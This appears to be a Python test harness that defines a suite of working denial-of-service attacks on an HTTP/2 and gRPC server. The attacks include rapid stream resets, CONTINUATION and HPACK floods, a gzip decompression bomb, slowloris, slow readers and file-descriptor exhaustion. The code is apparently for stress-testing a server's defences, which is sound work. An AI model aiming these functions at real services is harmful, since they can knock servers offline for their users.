# SPDX-License-Identifier: Apache-2.0
"""What hostile callers do. Each attack is a function of the address, a clock
that says when it is over, and a counter of what it managed; it is called again
when it was thrown out."""

import random
import socket
import struct
import time

from frames import (
    COMPOSITE, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST, SETTINGS, WINDOW,
    Peer, bomb, data_frames, empty_blocks, field, frame, header_block, message, metadata, request,
)

SMALL = message(b"\n\x03\n\x01a" + COMPOSITE)
BATCH = 500


def _endless(address, over, count, unit, batch=BATCH, first=b""):
    """`unit(stream)` again and again, on streams that grow."""
    peer = Peer(address)
    peer.send(first)
    stream = 1
    while not over() and stream < 2**31 - 2 * batch:
        peer.send(b"".join(unit(stream + 2 * i) for i in range(batch)))
        stream += 2 * batch
        count(batch)
    peer.close()


def rapid_reset(address, over, count):
    block = request()
    reset = struct.pack(">I", 8)
    _endless(address, over, count,
             lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(RST, 0, s, reset))


def made_you_reset(address, over, count):
    block = request()
    much = struct.pack(">I", 2**31 - 1)
    _endless(address, over, count,
             lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(WINDOW, 0, s, much))


def continuation(address, over, count):
    peer = Peer(address)
    peer.send(frame(HEADERS, 0, 1, request()))
    piece = frame(CONTINUATION, 0, 1, field("x-more", b"v" * 16000))
    while not over():
        peer.send(piece)
        count(1)


def empty_continuation(address, over, count):
    peer = Peer(address)
    peer.send(frame(HEADERS, 0, 1, request()))
    piece = frame(CONTINUATION, 0, 1) * BATCH
    while not over():
        peer.send(piece)
        count(BATCH)


def hpack_bomb(address, over, count):
    # One field fills the table; then a byte refers to it.
    fill = field("x", b"v" * 4000, first=0x40)
    _endless(address, over, count,
             lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, request(fill + b"\xbe" * 12000)),
             batch=1)


def many_fields(address, over, count):
    """As many fields as may be, of a byte each, in calls that are answered."""
    block = request(field("x", b"", first=0x40) + b"\xbe" * 1900)
    _endless(address, over, count,
             lambda s: frame(HEADERS, END_HEADERS, s, block) + data_frames(s, SMALL, True), batch=10)


def settings(address, over, count):
    _endless(address, over, count, lambda _: frame(SETTINGS, 0, 0))


def ping(address, over, count):
    _endless(address, over, count, lambda _: frame(PING, 0, 0, b"12345678"))


def empty_data(address, over, count):
    _endless(address, over, count, lambda _: frame(DATA, 0, 1),
             first=frame(HEADERS, END_HEADERS, 1, request()))


def window_update(address, over, count):
    one = struct.pack(">I", 1)
    _endless(address, over, count, lambda _: frame(WINDOW, 0, 0, one) + frame(WINDOW, 0, 1, one),
             first=frame(HEADERS, END_HEADERS, 1, request()))


def priority(address, over, count):
    _endless(address, over, count, lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", 0, 15)))


def unknown_frames(address, over, count):
    _endless(address, over, count, lambda _: frame(0x77, 0, 0, b"?"))


def large_metadata(address, over, count):
    peer = Peer(address)
    peer.send(header_block(1, request(metadata(1900))))
    count(1)


_BOMB = []


def the_bomb():
    """Made once, as it takes a while."""
    if not _BOMB:
        _BOMB.append(message(bomb(1 << 30), compressed=1))
    return _BOMB[0]


def gzip_bomb(address, over, count):
    block = request(field("grpc-encoding", b"gzip"))
    peer = Peer(address)
    stream = 1
    while not over():
        peer.send(frame(HEADERS, END_HEADERS, stream, block))
        # The window at the start is all that comes unasked for.
        body = the_bomb()
        peer.send(data_frames(stream, body[:65000], False))
        time.sleep(0.05)
        peer.send(data_frames(stream, body[65000:], True))
        count(1)
        stream += 2
        time.sleep(0.2)


def packed_nothing(address, over, count):
    """Packed bodies that unpack to nothing, and take long to."""
    block = request(field("grpc-encoding", b"gzip"))
    body = message(empty_blocks(60_000), compressed=1)
    peer = Peer(address)
    stream = 1
    while not over():
        for _ in range(10):
            peer.send(frame(HEADERS, END_HEADERS, stream, block) + data_frames(stream, body, True))
            stream += 2
        count(10)
        time.sleep(0.02)


def _held(address, over, count, unit, streams=1000, settings=b"", connections=1):
    """`unit(stream)` on each, and nothing more."""
    peers = [Peer(address, settings=settings) for _ in range(connections)]
    for peer in peers:
        for i in range(streams):
            peer.send(unit(2 * i + 1))
            count(1)
    while not over():
        time.sleep(0.1)
    for peer in peers:
        peer.close()


def held_calls(address, over, count):
    """Many calls of 1 MB, each held just before its end."""
    block = request()
    body = message(bytes(60000), announced=1 << 20)
    _held(address, over, count,
          lambda s: frame(HEADERS, END_HEADERS, s, block) + data_frames(s, body, False),
          streams=1024, settings=struct.pack(">HI", 4, 2**30))


def slow_reader(address, over, count):
    """Asks and never reads."""
    peer = Peer(address, settings=struct.pack(">HI", 4, 2**30), deaf=True)
    block = request()
    peer.socket.settimeout(1)
    stream = 1
    try:
        while not over() and stream < 200_000:
            peer.send(frame(HEADERS, END_HEADERS, stream, block) + data_frames(stream, SMALL, True))
            stream += 2
            count(1)
    except OSError:
        pass
    while not over():
        time.sleep(0.1)
    peer.close()


def closed_window(address, over, count):
    """Asks, and lets no byte of the answers come."""
    block = request()
    _held(address, over, count,
          lambda s: frame(HEADERS, END_HEADERS, s, block) + data_frames(s, SMALL, True),
          streams=1024, settings=struct.pack(">HI", 4, 0))


def slowloris(address, over, count):
    peers = []
    try:
        while len(peers) < 1000 and not over():
            peer = Peer(address, preface=False, deaf=True)
            peer.send(b"PRI * HT")
            peers.append(peer)
            count(1)
        while not over():
            time.sleep(0.1)
    finally:
        for peer in peers:
            peer.close()


def announced_lengths(address, over, count):
    """Messages that are announced to be large, and do not come."""
    block = request()
    prefix = struct.pack(">BI", 0, 250 << 20)
    _held(address, over, count, lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, prefix))


def just_beyond_a_window(address, over, count):
    """Bodies of which all but the end comes."""
    block = request()
    body = message(bytes(64_500), announced=64_512)
    _held(address, over, count, lambda s: frame(HEADERS, END_HEADERS, s, block) + data_frames(s, body, False))


def many_streams(address, over, count):
    block = request()
    _endless(address, over, count, lambda s: frame(HEADERS, END_HEADERS, s, block))


def held_metadata(address, over, count):
    """Calls with as much metadata as may be, of which nothing more comes."""
    block = request(metadata(7))
    _held(address, over, count, lambda s: header_block(s, block))


def held_requests(address, over, count):
    """The same, where they are no calls of gRPC."""
    block = request(metadata(7)).replace(b"application/grpc", b"application/json")
    _held(address, over, count, lambda s: header_block(s, block), connections=4)


def _dribble(address, over, count, size, pause):
    """Bodies of up to `size` that come a byte at a time; for each that has come
    another one begins, so that they hold the same all the time."""
    peer = Peer(address)
    block = request()
    left = {}
    opened = iter(range(1, 2**31, 2))

    def open_one():
        stream = next(opened)
        left[stream] = random.randint(1, size)
        peer.send(frame(HEADERS, END_HEADERS, stream, block)
                  + frame(DATA, 0, stream, message(b"", announced=left[stream])))

    for _ in range(500):
        open_one()
    while not over():
        peer.send(b"".join(frame(DATA, END_STREAM if bytes_ == 1 else 0, stream, b"x") for stream, bytes_ in left.items()))
        count(len(left))
        for stream in list(left):
            left[stream] -= 1
            if not left[stream]:
                del left[stream]
                open_one()
        time.sleep(pause)


def dribble(address, over, count):
    _dribble(address, over, count, size=60000, pause=0)


def large_dribble(address, over, count):
    """They never stand still."""
    _dribble(address, over, count, size=1 << 20, pause=1)


def garbage(address, over, count):
    peer = Peer(address, preface=False)
    peer.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    count(1)
    time.sleep(0.01)
    peer.close()


def out_of_files(address, over, count):
    """More connections than the daemon may have files."""
    peers = []
    try:
        for _ in range(300):
            host, _, port = address.rpartition(":")
            peers.append(socket.create_connection((host, int(port)), 5))
            count(1)
        while not over():
            time.sleep(0.1)
    finally:
        for peer in peers:
            peer.close()


ATTACKS = {
    "reset streams": rapid_reset,
    "streams reset by errors": made_you_reset,
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "HPACK bombs": hpack_bomb,
    "many fields": many_fields,
    "SETTINGS": settings,
    "PING": ping,
    "empty DATA": empty_data,
    "WINDOW_UPDATE": window_update,
    "PRIORITY": priority,
    "unknown frames": unknown_frames,
    "15 MB of metadata": large_metadata,
    "1 MB that unpacks to 1 GB": gzip_bomb,
    "packed bodies with nothing in them": packed_nothing,
    "2048 calls of 1 MB": held_calls,
    "answers that are not read": slow_reader,
    "answers without a window": closed_window,
    "half a preface": slowloris,
    "announced lengths": announced_lengths,
    "bodies that miss their end": just_beyond_a_window,
    "streams beyond the limit": many_streams,
    "bodies byte by byte": dribble,
    "large bodies a byte a second": large_dribble,
    "metadata without bodies": held_metadata,
    "metadata of no calls": held_requests,
    "HTTP/1": garbage,
    "open files run out": out_of_files,
}
